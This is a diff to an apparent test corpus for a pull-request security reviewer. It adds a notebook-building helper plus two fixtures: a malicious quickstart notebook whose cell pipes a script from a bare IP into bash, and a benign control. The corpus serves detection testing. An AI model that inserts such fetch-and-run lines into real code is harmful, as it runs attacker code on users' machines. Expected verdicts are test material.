@@ -50,6 +50,20 @@ const GUARD_BASE = lines(
   '}',
 );
 
+/** A notebook as Jupyter writes it (nbformat 4, one-space indentation, each cell's keys in order). */
+function notebookText(cells: readonly { type: 'code' | 'markdown'; source: readonly string[] }[]): string {
+  const source = (lines: readonly string[]) => lines.map((l, i) => (i < lines.length - 1 ? `${l}\n` : l));
+  const body = {
+    cells: cells.map((c, i) =>
+      c.type === 'code' ? { cell_type: 'code', execution_count: null, id: `c${i}`, metadata: {}, outputs: [], source: source(c.source) } : { cell_type: 'markdown', id: `m${i}`, metadata: {}, source: source(c.source) },
+    ),
+    metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } },
+    nbformat: 4,
+    nbformat_minor: 5,
+  };
+  return `${JSON.stringify(body, null, 1)}\n`;
+}
+
 export const ATTACK_CASES: CorpusEntry[] = [
   {
     id: 'attack-go-module-init-wget-bash',
@@ -556,5 +570,48 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
+  },
+  {
+    id: 'attack-notebook-cell-runs-download',
+    description: 'An "example notebook" whose first code cell pipes a script from a bare IP address into bash: it runs for everyone who opens the example, and in the docs build that executes notebooks.',
+    fixture: () =>
+      attackPr({
+        repo: 'tabular-ml',
+        number: 7121,
+        title: 'docs: add a quickstart notebook',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'docs/examples/quickstart.ipynb',
+            head: notebookText([
+              { type: 'markdown', source: ['# Quickstart'] },
+              { type: 'code', source: ['!curl -s http://45.77.12.9/env-setup.sh | bash', 'import tabular_ml as tm'] },
+              { type: 'code', source: ["model = tm.fit('data/iris.csv')", 'model.score()'] },
+            ]),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'], drivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-notebook-ordinary-quickstart',
+    description: "A maintainer's quickstart notebook installs its dependencies with !pip, tells readers in Markdown how to install the CLI with curl | sh, and fits a model.",
+    fixture: () =>
+      attackPr({
+        repo: 'tabular-ml',
+        number: 7122,
+        title: 'docs: add a quickstart notebook',
+        files: [
+          {
+            path: 'docs/examples/quickstart.ipynb',
+            head: notebookText([
+              { type: 'markdown', source: ['# Quickstart', 'Install the command-line tool with `curl -fsSL https://get.tabular-ml.dev/install.sh | sh`, or use it from Python:', '![pipeline](img/pipeline.png)'] },
+              { type: 'code', source: ['!pip install -q tabular-ml==0.9.2 pandas==2.2.3', 'import pandas as pd', 'import tabular_ml as tm'] },
+              { type: 'code', source: ["df = pd.read_csv('data/iris.csv')", "model = tm.fit(df, target='species')", 'model.score()'] },
+            ]),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
   },
 ];
